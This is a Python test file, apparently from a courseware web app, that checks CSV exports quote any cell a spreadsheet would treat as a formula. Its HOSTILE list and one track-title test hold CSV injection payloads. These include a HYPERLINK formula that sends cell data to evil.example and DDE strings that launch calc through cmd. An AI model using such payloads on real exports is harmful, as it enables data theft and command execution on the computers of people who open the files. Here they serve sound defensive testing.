"""Every CSV export opens in a spreadsheet as data: no cell can start a formula.

The rule is tested directly (every leading character a spreadsheet acts on, and hypothesis over
arbitrary text), then through each export with a hostile value in each column a person or the
course content can fill: names, emails and titles.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from courseware.domain import clock
from courseware.domain.exports import CHUNK, FORMULA_LEADERS, csv_lines, safe_cell
from courseware.infra.config import PROJECT_ROOT
from courseware.models import User
from courseware.services import certificates
from courseware.services.audit import COMMAND_LINE
from tests.conftest import Auth, UserFactory, make_app

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2&"@x.com","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_inert(text: str) -> None:
    for row in cells(text):
        for cell in row:
            assert not cell.startswith(FORMULA_LEADERS), cell


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_leader_is_quoted(value: str) -> None:
    assert safe_cell(value) == "'" + value


@given(st.text())
def test_no_text_cell_starts_a_formula(value: str) -> None:
    cell = safe_cell(value)
    assert isinstance(cell, str)
    assert not cell.startswith(FORMULA_LEADERS)
    assert cell in (value, "'" + value)  # quoted, never otherwise changed


@given(st.one_of(st.integers(), st.floats(allow_nan=False)))
def test_numbers_stay_numbers(value: float) -> None:
    assert safe_cell(value) == value  # a negative number is data, not a formula


def test_booleans_and_missing_values_read_plainly() -> None:
    assert [safe_cell(True), safe_cell(False), safe_cell(None)] == ["yes", "no", ""]


def test_the_header_comes_at_once_and_rows_in_pieces_of_about_a_chunk() -> None:
    rows = [[f"Learner {n}", n] for n in range(20_000)]
    pieces = list(csv_lines(["name", "n"], iter(rows)))
    assert pieces[0] == "name,n\r\n"  # the download starts before any row is read
    assert all(CHUNK <= len(p) < CHUNK + 100 for p in pieces[1:-1])
    assert 0 < len(pieces[-1]) < CHUNK + 100
    assert cells("".join(pieces))[1:] == [[name, str(n)] for name, n in rows]
    assert list(csv_lines(["name"], [])) == ["name\r\n"]


def test_the_header_goes_through_the_same_rule() -> None:
    text = "".join(csv_lines(["=name"], [["=x", 1]]))
    assert cells(text) == [["'=name"], ["'=x", "1"]]


# --- the exports themselves ---------------------------------------------------------------------

def hostile_users(make_user: UserFactory) -> list[User]:
    """A learner per hostile value, in the name and (where an address allows it) the email."""
    return [make_user("learner", name=value.strip(), email=f"{value[:1]}cell{n}@example.org"
                      if value[:1] in "=+-" else None)
            for n, value in enumerate(HOSTILE)]


def test_roster_export_quotes_every_hostile_cell(app: Flask, client: FlaskClient, auth: Auth,
                                                 admin: User, make_user: UserFactory) -> None:
    holders = hostile_users(make_user)
    with app.app_context(), app.extensions["courseware.db"].session() as s:
        ctx = certificates.IssueContext.from_config(app.config)
        for holder in holders:
            certificates.manual_issue(s, COMMAND_LINE, s.get(User, holder.id),
                                      "certified-peer-mentor", "Prior learning",
                                      clock.utcnow(), ctx)
        s.commit()
    auth.login(admin)
    text = client.get("/admin/roster.csv").get_data(as_text=True)
    rows = cells(text)
    assert len(rows) == 1 + len(holders)
    names = {row[0] for row in rows[1:]}
    assert {"'" + h.name for h in holders} == names
    assert any(row[1].startswith("'") for row in rows[1:])  # the hostile emails too
    assert_inert(text)


def test_quiz_results_export_quotes_every_hostile_cell(app: Flask, client: FlaskClient,
                                                       auth: Auth, trainer: User,
                                                       make_user: UserFactory) -> None:
    from tests.helpers import pass_quiz, read_module

    for holder in hostile_users(make_user):
        learner_client = app.test_client()
        Auth(learner_client).login(holder)
        read_module(learner_client, "foundations")
        pass_quiz(learner_client, app, "foundations")
    auth.login(trainer)
    text = client.get("/grade/reports/quizzes.csv").get_data(as_text=True)
    rows = cells(text)
    assert len(rows) == 1 + len(HOSTILE)
    assert all(row[0].startswith("'") for row in rows[1:])
    assert_inert(text)


def test_item_statistics_export_is_inert(app: Flask, client: FlaskClient, auth: Auth,
                                         trainer: User, make_user: UserFactory) -> None:
    from tests.helpers import pass_quiz, read_module

    for holder in hostile_users(make_user):
        learner_client = app.test_client()
        Auth(learner_client).login(holder)
        read_module(learner_client, "foundations")
        pass_quiz(learner_client, app, "foundations")
    auth.login(trainer)
    response = client.get("/grade/reports/items.csv?quiz=foundations")
    assert response.status_code == 200
    assert len(cells(response.get_data(as_text=True))) > 1
    assert_inert(response.get_data(as_text=True))


def test_a_hostile_track_title_is_quoted_in_the_roster(database_url: str, tmp_path: Path,
                                                       make_user: UserFactory) -> None:
    """Content is checked in review, but an export must not trust it either."""
    root = tmp_path / "content"
    for folder in ("modules", "quizzes", "certificates"):
        shutil.copytree(PROJECT_ROOT / folder, root / folder)
    track = root / "certificates" / "certified-peer-mentor.toml"
    track.write_text(track.read_text().replace('title = "Certified Peer Mentor"',
                                               'title = "=HYPERLINK(\\"http://evil.example\\")"'))
    app = make_app(database_url, tmp_path, CONTENT_ROOT=root)
    runner = app.test_cli_runner()
    assert runner.invoke(args=["courseware", "sync"]).exit_code == 0
    admin = UserFactory(app)("admin")
    holder = UserFactory(app)("learner")
    with app.app_context(), app.extensions["courseware.db"].session() as s:
        ctx = certificates.IssueContext.from_config(app.config)
        certificates.manual_issue(s, COMMAND_LINE, s.get(User, holder.id),
                                  "certified-peer-mentor", "Prior learning", clock.utcnow(), ctx)
        s.commit()
    client = app.test_client()
    Auth(client).login(admin)
    text = client.get("/admin/roster.csv").get_data(as_text=True)
    assert "'=HYPERLINK" in text
    assert_inert(text)
